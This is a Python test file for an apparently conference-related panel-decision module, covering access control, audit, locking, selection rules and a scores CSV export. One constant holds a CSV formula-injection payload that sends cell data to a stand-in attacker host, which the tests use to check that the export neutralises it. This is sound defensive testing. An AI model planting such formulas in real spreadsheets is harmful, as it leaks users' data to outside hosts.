"""The panel's decisions (data_access.decisions): who may record and read them (checked at the call),
the audit, the optimistic lock, the history, the disagreement flag they close, the selection rule
"only shortlisted" (solver and replacement), and the scores CSV. Both databases."""

from __future__ import annotations

import csv
import io
import threading
import time

import pytest
from sqlalchemy import select

from config import limits
from data_access import audit, privacy, signoff
from data_access import decisions as dec
from data_access import exports as exports_da
from data_access import invitations as inv
from data_access import lineups as lineups_da
from data_access.assignments import declare_conflict
from data_access.errors import AccessDenied
from data_access.models import PanelDecision
from data_access.users import set_active
from scoring.selection import SelectionRules, labels_from_config, select_presenters
from tests.data_access.test_invitations import REPLY_BY, call  # noqa: F401 (call: a fixture)
from tests.data_access.test_lineups import propose
from tests.data_access.test_replacement import answer, proposed
from tests.data_access.test_tokens import settings_for
from tests.factories import assign, make_submission, make_user, scores_frame_for, submit_review
from tests.support.dbdump import table_contents

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def panel(db, call_config):
    """Four submissions (the last anonymous), all able to present; a reviewer who reviewed the first,
    one in conflict with it; an admin, a second admin, the office and a deactivated admin."""
    with db.write() as s:
        people = {
            "admin": make_user(s, role="admin"),
            "admin2": make_user(s, role="admin"),
            "office": make_user(s, role="office"),
            "reviewer": make_user(s, role="reviewer"),
            "conflicted": make_user(s, role="reviewer"),
            "gone": make_user(s, role="admin"),
        }
        ids = [
            make_submission(
                s,
                call_config,
                title=f"Evidence {i}",
                organisation="Hidden Survivors Trust" if i == 3 else f"Organisation {i}",
                contact_name="Cy Hidden" if i == 3 else f"Contact {i}",
                anonymous=i == 3,
                presentation_preference="either",
            )
            for i in range(4)
        ]
        assign(s, ids[0], people["reviewer"])
        submit_review(s, call_config, ids[0], people["reviewer"])
        assign(s, ids[0], people["conflicted"])
        declare_conflict(
            s, submission_id=ids[0], reviewer_id=people["conflicted"].user_id, actor="x", source="reviewer"
        )
        set_active(s, user_id=people["gone"].user_id, active=False, actor="test")
    return people | {"ids": ids}


def decide(db, viewer, sid, decision, reason="The panel agreed.", expected=None):
    with db.write() as s:
        if expected is None:
            now = dec.current_decision(s, viewer=viewer, submission_id=sid) if viewer.role != "reviewer" else None
            expected = now.version if now else 0
        return dec.record_decision(
            s, viewer=viewer, submission_id=sid, decision=decision, reason=reason, expected_version=expected
        )


def entries(db, action="decision.record"):
    with db.read() as s:
        return audit.list_entries(s, filters=audit.AuditFilter(action=action))


# --- who may ---------------------------------------------------------------------------------


def test_the_admin_records_a_decision_with_its_reason_and_it_is_audited(db, panel):
    sid = panel["ids"][0]
    record = decide(db, panel["admin"], sid, "shortlisted", reason="  Strong, well evidenced.  ")
    assert (record.decision, record.label, record.reason, record.version) == (
        "shortlisted",
        "Shortlisted",
        "Strong, well evidenced.",
        1,
    )
    assert record.reference == "CFE-0001" and record.decided_by == panel["admin"].username
    [entry] = entries(db).to_dict("records")
    assert entry["actor"] == panel["admin"].username and entry["entity"] == "submission"
    assert entry["entity_id"] == str(sid) and entry["old"] is None
    assert entry["new"] == {
        "reference": "CFE-0001",
        "decision": "shortlisted",
        "reason": "Strong, well evidenced.",
        "version": 1,
    }


@pytest.mark.parametrize("who", ["office", "reviewer", "conflicted", "gone"])
def test_only_an_active_admin_records_a_decision_refused_on_the_server_with_nothing_changed(db, panel, who):
    before = table_contents(db)
    with pytest.raises(AccessDenied, match="only an active admin may record the panel's decisions"):
        decide(db, panel[who], panel["ids"][0], "shortlisted", expected=0)
    assert table_contents(db) == before


def test_an_admin_demoted_after_the_page_was_drawn_is_refused_at_the_press(db, panel):
    from data_access.models import User

    with db.write() as s:
        s.get(User, panel["admin2"].user_id).role = "office"
    with pytest.raises(AccessDenied):
        decide(db, panel["admin2"], panel["ids"][0], "shortlisted", expected=0)
    assert entries(db).empty


@pytest.mark.parametrize("who", ["reviewer", "conflicted", "gone"])
def test_reviewers_and_deactivated_accounts_read_no_decision(db, panel, who):
    sid = panel["ids"][0]
    decide(db, panel["admin"], sid, "not_shortlisted", reason="Out of scope.")
    viewer = panel[who]
    with db.read() as s:
        for read in (
            lambda: dec.current_decision(s, viewer=viewer, submission_id=sid),
            lambda: dec.current_decisions(s, viewer=viewer),
            lambda: dec.decision_history(s, viewer=viewer, submission_id=sid),
            lambda: dec.submission_for_reference(s, viewer=viewer, reference="CFE-0001"),
        ):
            with pytest.raises(AccessDenied):
                read()


def test_the_office_reads_decisions_and_their_history(db, panel):
    sid = panel["ids"][1]
    decide(db, panel["admin"], sid, "needs_more_reviews", reason="Only one review.")
    decide(db, panel["admin2"], sid, "shortlisted", reason="Three reviews now, all strong.")
    with db.read() as s:
        history = dec.decision_history(s, viewer=panel["office"], submission_id=sid)
        now = dec.current_decisions(s, viewer=panel["office"])
    assert [(r.version, r.decision, r.decided_by) for r in history] == [
        (2, "shortlisted", panel["admin2"].username),
        (1, "needs_more_reviews", panel["admin"].username),
    ]
    assert set(now) == {sid} and now[sid].reason == "Three reviews now, all strong."
    audit_rows = entries(db).sort_values("id")
    assert audit_rows.iloc[1]["old"] == {"decision": "needs_more_reviews", "reason": "Only one review."}


# --- bad input -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("decision", "reason", "words"),
    [
        ("shortlisted", "   ", "Give the panel's reason"),
        ("shortlisted", "x" * (limits.DECISION_REASON + 1), f"the most allowed is {limits.DECISION_REASON:,}"),
        ("shortlisted", "nul\x00here", "NUL character"),
        ("maybe", "Because.", "is not a decision"),
    ],
)
def test_bad_input_is_refused_in_words_and_changes_nothing(db, panel, decision, reason, words):
    before = table_contents(db)
    with pytest.raises(dec.DecisionError, match=words):
        decide(db, panel["admin"], panel["ids"][0], decision, reason=reason)
    assert table_contents(db) == before


def test_a_reason_at_the_limit_is_kept(db, panel):
    record = decide(db, panel["admin"], panel["ids"][0], "shortlisted", reason="y" * limits.DECISION_REASON)
    assert len(record.reason) == limits.DECISION_REASON


def test_the_same_decision_and_reason_again_is_refused_and_an_unknown_submission_too(db, panel):
    decide(db, panel["admin"], panel["ids"][0], "shortlisted", reason="Strong.")
    with pytest.raises(dec.DecisionError, match="already the decision on CFE-0001"):
        decide(db, panel["admin"], panel["ids"][0], "shortlisted", reason="Strong.")
    with pytest.raises(dec.DecisionError, match="no such submission"):
        decide(db, panel["admin"], 999_999, "shortlisted", expected=0)
    assert len(entries(db)) == 1


def test_a_reference_is_typed_exactly(db, panel):
    with db.read() as s:
        assert dec.submission_for_reference(s, viewer=panel["admin"], reference=" cfe-0002 ") == panel["ids"][1]
        for typed, words in (("CFE-2", "not a reference"), ("CFE-000", "not a reference"), ("", "Type a")):
            with pytest.raises(dec.DecisionError, match=words):
                dec.submission_for_reference(s, viewer=panel["admin"], reference=typed)


# --- the lock ---------------------------------------------------------------------------------


def test_a_decision_shown_before_another_admins_is_stale_and_nothing_is_overwritten(db, panel):
    sid = panel["ids"][0]
    decide(db, panel["admin"], sid, "needs_more_reviews", reason="Wait.")  # both admins see version 1
    decide(db, panel["admin2"], sid, "shortlisted", reason="Admin two decided.", expected=1)
    with pytest.raises(dec.StaleDecision, match="Someone else recorded a decision on CFE-0001") as caught:
        decide(db, panel["admin"], sid, "not_shortlisted", reason="Admin one, late.", expected=1)
    assert caught.value.current.reason == "Admin two decided."
    with db.read() as s:
        assert dec.current_decision(s, viewer=panel["admin"], submission_id=sid).decision == "shortlisted"
        assert len(s.scalars(select(PanelDecision)).all()) == 2
    assert len(entries(db)) == 2


def test_two_admins_deciding_at_once_one_wins_the_other_is_told(db, panel):
    sid = panel["ids"][2]
    first_in = threading.Event()
    outcomes: dict[str, str] = {}

    def first() -> None:
        with db.write() as s:
            dec.record_decision(
                s, viewer=panel["admin"], submission_id=sid, decision="shortlisted", reason="A", expected_version=0
            )
            first_in.set()
            time.sleep(0.5)  # the second admin's press arrives while this unit is open
        outcomes["first"] = "recorded"

    def second() -> None:
        first_in.wait(30)
        try:
            decide(db, panel["admin2"], sid, "not_shortlisted", reason="B", expected=0)
            outcomes["second"] = "recorded"
        except dec.StaleDecision:
            outcomes["second"] = "stale"

    threads = [threading.Thread(target=f) for f in (first, second)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert outcomes == {"first": "recorded", "second": "stale"}
    with db.read() as s:
        rows = [
            (r.version, r.reason) for r in s.scalars(select(PanelDecision).where(PanelDecision.submission_id == sid))
        ]
    assert rows == [(1, "A")]
    assert len(entries(db)) == 1


# --- the disagreement flag ---------------------------------------------------------------------


def flagged_scores(config, ids):
    scores = scores_frame_for(config, dict(zip(ids, (4.5, 4.0, 3.5, 3.0), strict=True)))
    scores["flagged"] = True
    return scores


def test_shortlisted_or_not_closes_the_flag_needs_more_reviews_leaves_it_and_a_later_one_reopens_it(
    db, call_config, panel
):
    a, b, c, _d = panel["ids"]
    decide(db, panel["admin"], a, "shortlisted")
    decide(db, panel["admin"], b, "not_shortlisted")
    decide(db, panel["admin"], c, "needs_more_reviews")
    with db.read() as s:
        assert dec.closed_flag_ids(s) == {a, b}
    decide(db, panel["admin"], a, "needs_more_reviews", reason="A new review disagrees again.")
    with db.read() as s:
        assert dec.closed_flag_ids(s) == {b}
        frame = lineups_da.candidate_frame(s, scores=flagged_scores(call_config, panel["ids"])).set_index(
            "submission_id"
        )
    assert frame["flagged"].to_dict() == {a: True, b: False, c: True, _d: True}


def test_the_rule_no_discussion_flag_honours_closed_flags(db, call_config, panel):
    a = panel["ids"][0]
    decide(db, panel["admin"], a, "shortlisted")
    rules = SelectionRules(slots=1, max_in_person=1, max_virtual=1, no_discussion_flag=True)
    with db.read() as s:
        frame = lineups_da.candidate_frame(s, scores=flagged_scores(call_config, panel["ids"]))
    result = select_presenters(frame, rules, labels=labels_from_config(call_config), explain=False)
    assert result.feasible and [p.submission_id for p in result.picks] == [a]


# --- the rule "only shortlisted" ------------------------------------------------------------------


def test_only_shortlisted_line_up_comes_from_the_shortlisted_alone(db, call_config, panel):
    a, b, c, d = panel["ids"]
    decide(db, panel["admin"], b, "shortlisted")
    decide(db, panel["admin"], c, "shortlisted")
    decide(db, panel["admin"], a, "not_shortlisted")  # the best score, not shortlisted
    decide(db, panel["admin"], d, "shortlisted")  # anonymous: never selected anyway
    scores = scores_frame_for(call_config, dict(zip(panel["ids"], (4.5, 4.0, 3.5, 3.0), strict=True)))
    rules = SelectionRules(slots=2, max_in_person=2, max_virtual=2, only_shortlisted=True)
    with db.read() as s:
        frame = lineups_da.candidate_frame(s, scores=scores)
    assert frame.set_index("submission_id")["shortlisted"].to_dict() == {a: False, b: True, c: True, d: True}
    result = select_presenters(frame, rules, labels=labels_from_config(call_config), explain=True)
    assert result.feasible
    assert sorted(p.submission_id for p in result.picks) == [b, c]
    costs = {c.family: c for c in result.rule_costs}
    assert costs["shortlisted"].rule == "only submissions the panel shortlisted"
    assert costs["shortlisted"].given_up == pytest.approx(1.0)  # a (4.5) gives way to c (3.5)
    without = select_presenters(frame, SelectionRules(slots=2, max_in_person=2, max_virtual=2), explain=False)
    assert sorted(p.submission_id for p in without.picks) == [a, b]


def test_only_shortlisted_with_none_shortlisted_is_infeasible_naming_the_rule(db, call_config, panel):
    decide(db, panel["admin"], panel["ids"][0], "needs_more_reviews")
    scores = scores_frame_for(call_config, dict(zip(panel["ids"], (4.5, 4.0, 3.5, 3.0), strict=True)))
    with db.read() as s:
        frame = lineups_da.candidate_frame(s, scores=scores)
    rules = SelectionRules(slots=2, max_in_person=2, max_virtual=2, only_shortlisted=True)
    result = select_presenters(frame, rules, labels=labels_from_config(call_config), explain=True)
    assert not result.feasible
    assert [b.message for b in result.blockers] == [
        "No eligible submission meets the rule “only submissions the panel shortlisted”: the panel has "
        "shortlisted none that can be selected (Rankings: record the panel's decisions), and there are 2 slots "
        "to fill."
    ]


def test_the_call_config_carries_only_shortlisted(call_config):
    assert call_config.selection.only_shortlisted is False
    assert SelectionRules.from_config(call_config).only_shortlisted is False
    assert SelectionRules.from_dict({"slots": 1, "max_in_person": 1, "max_virtual": 1}).only_shortlisted is False


# --- the scores CSV ---------------------------------------------------------------------------


def test_the_scores_csv_carries_the_decision_and_its_reason_neutralised_and_no_anonymous_identity(
    db, call_config, panel
):
    a, d = panel["ids"][0], panel["ids"][3]
    decide(db, panel["admin"], a, "shortlisted", reason=HYPERLINK)
    decide(db, panel["admin"], d, "not_shortlisted", reason="Out of scope for the conference.")
    scores = scores_frame_for(call_config, dict(zip(panel["ids"], (4.5, 4.0, 3.5, 3.0), strict=True)))
    with db.read() as s:
        table = exports_da.scores_table(s, config=call_config, scores=scores)
    assert table.field_names[-2:] == ["Panel decision", "Decision reason"]
    text = table.to_csv().decode("utf-8-sig")
    rows = {r["Reference"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["CFE-0001"]["Panel decision"] == "Shortlisted"
    assert rows["CFE-0001"]["Decision reason"] == "'" + HYPERLINK  # neutralised, never a live formula
    assert (rows["CFE-0002"]["Panel decision"], rows["CFE-0002"]["Decision reason"]) == ("", "")
    assert rows["CFE-0004"]["Panel decision"] == "Not shortlisted"
    assert rows["CFE-0004"]["Anonymous"] == "yes" and rows["CFE-0004"]["Organisation"] == ""
    assert "Hidden Survivors Trust" not in text and "Cy Hidden" not in text
    assert not any(line.startswith("=") or ",=" in line for line in text.splitlines())


def test_erasing_a_submission_erases_its_decisions_and_their_reasons_in_the_audit_log(db, panel):
    sid = panel["ids"][0]
    decide(db, panel["admin"], sid, "shortlisted", reason="Spoke with Larkspur Amadi about it.")
    with db.write() as s:
        privacy.erase_submission(s, submission_id=sid, actor="boss", reason="request")
    with db.read() as s:
        assert s.scalars(select(PanelDecision)).all() == []
    [entry] = entries(db).to_dict("records")
    assert "Larkspur" not in str(entry["new"])


def shortlist_line_up_declined(db, call_config, setup, shortlisted, slots):
    """Shortlist `shortlisted` (ids), save the best line-up of `slots` under "only shortlisted" (other
    rules loose), sign it off, invite it, and have CFE-0001 decline; the replacement proposed."""
    admin = setup["admin"]
    for sid in shortlisted:
        decide(db, admin, sid, "shortlisted")
    loose = {"min_per_theme": 0, "one_per_exploitation_type": False, "min_survivor_involved": 0}
    loose |= {"max_per_sector": None, "max_per_organisation": None}
    loose |= {"slots": slots, "max_in_person": slots, "max_virtual": slots}
    result = propose(db, call_config, setup["scores"], only_shortlisted=True, **loose)
    assert sorted(p.submission_id for p in result.picks) == setup["ids"][:slots]
    with db.write() as s:
        record = lineups_da.save_line_up(s, viewer=admin, name="Shortlist", result=result, scores=setup["scores"])
    with db.write() as s:
        signoff.sign_off(s, viewer=setup["office"], line_up_id=record.id, expected_version=record.version)
    with db.write() as s:
        inv.invite_all(
            s, viewer=admin, line_up_id=record.id, reply_by=REPLY_BY, settings=settings_for(), config=call_config
        )
    answer(db, admin, record.id, "CFE-0001", "declined")
    return proposed(db, call_config, admin, record.id, setup["scores"])


def test_the_replacement_after_a_decline_keeps_only_shortlisted(db, call_config, request):
    """A line-up saved under "only shortlisted": the proposal after a decline takes the best shortlisted
    submission left (CFE-0005), not the better one the panel did not shortlist (CFE-0004)."""
    setup = request.getfixturevalue("call")
    ids = setup["ids"]
    decide(db, setup["admin"], ids[3], "not_shortlisted", reason="Too close to another talk.")
    shown = shortlist_line_up_declined(db, call_config, setup, [ids[0], ids[1], ids[2], ids[4]], 3)
    assert shown.can_confirm
    assert [e.reference for e in shown.entering] == ["CFE-0005"]
    assert not any(c.relaxed for c in shown.proposal.rule_changes)


def test_the_replacement_relaxes_only_shortlisted_by_name_when_no_shortlisted_submission_is_left(
    db, call_config, request
):
    setup = request.getfixturevalue("call")
    shown = shortlist_line_up_declined(db, call_config, setup, setup["ids"][:2], 2)
    # Nobody shortlisted is left: the proposal relaxes the rule, and says so by name (never silently).
    assert [e.reference for e in shown.entering] == ["CFE-0003"]
    changes = {c.family: c for c in shown.proposal.rule_changes}
    assert changes["shortlisted"].relaxed and changes["shortlisted"].rule == "only submissions the panel shortlisted"
    assert not any(c.relaxed for family, c in changes.items() if family != "shortlisted")
    assert any("only submissions the panel shortlisted" in b.message for b in shown.proposal.relaxed)
